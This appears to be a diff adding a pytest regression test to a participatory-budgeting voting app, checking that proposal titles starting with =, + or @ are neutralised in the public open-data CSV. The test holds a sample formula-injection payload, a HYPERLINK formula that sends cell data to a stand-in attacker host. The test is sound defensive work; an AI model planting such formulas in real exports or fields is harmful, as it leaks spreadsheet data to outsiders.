@@ -9,6 +9,7 @@ import re
 
 import httpx
 import pytest
+from sqlalchemy import select
 
 from app.images import PictureError, prepare_picture
 from app.opendata import datasets
@@ -136,3 +137,40 @@ async def test_the_event_card_gives_away_no_single_answer_by_differencing(client
     scale = r"([0-9]+[.,][0-9]) on a scale of 1 to 5"
     revealed = re.findall(scale, before) == ["4,0"] and re.findall(scale, after) == ["3,5"]
     assert not revealed, "one resident's answer can be worked out from two readings"
+
+
+# --- Second tour (7 December 2026): the ideas phase, voting, polls and exports ---------------
+
+
+async def test_a_proposal_title_is_never_a_formula_in_the_open_data_csv(client, db):
+    """A resident's idea titled `=HYPERLINK(...)` reached the public pb-results.csv as it was:
+    the spreadsheet of whoever opened the open data ran it (the staff exports already prefixed
+    such cells). The JSON keeps the title as written."""
+    from tests.voting.factories import (
+        add_proposal,
+        adult_birth_date,
+        make_round,
+        move_to,
+        put_on_roll,
+    )
+    from tests.voting.test_pb_audit import SEED
+    from voting.ballots import cast_ballot
+    from voting.models import RollEntry
+    from voting.publication import publish
+
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    kallio = await make_area(db, "Kallio")
+    round_ = await make_round(db, "voting", {kallio.id: 100_000, None: 300_000})
+    formula = await add_proposal(db, round_, kallio, hostile, 60_000)
+    plus = await add_proposal(db, round_, kallio, "+358 40 123", 30_000)
+    at = await add_proposal(db, round_, None, "@SUM(1+1)", 200_000)
+    await put_on_roll(db, round_, [("VOTER00001", adult_birth_date(), kallio)])
+    entry = await db.scalar(select(RollEntry).where(RollEntry.round_id == round_.id))
+    await cast_ballot(db, round_, entry.id, "online", {formula.id: 1, plus.id: 1, at.id: 1})
+    await move_to(db, round_, "counting")
+    await publish(db, round_, SEED, None)
+    rows = rows_of((await client.get("/open-data/pb-results.csv")).text)
+    titles = {row["proposal_fi"] for row in rows}
+    assert titles == {"'" + hostile, "'+358 40 123", "'@SUM(1+1)"}
+    document = (await client.get("/open-data/pb-results.json")).json()
+    assert hostile in {row["proposal_fi"] for row in document["rows"]}
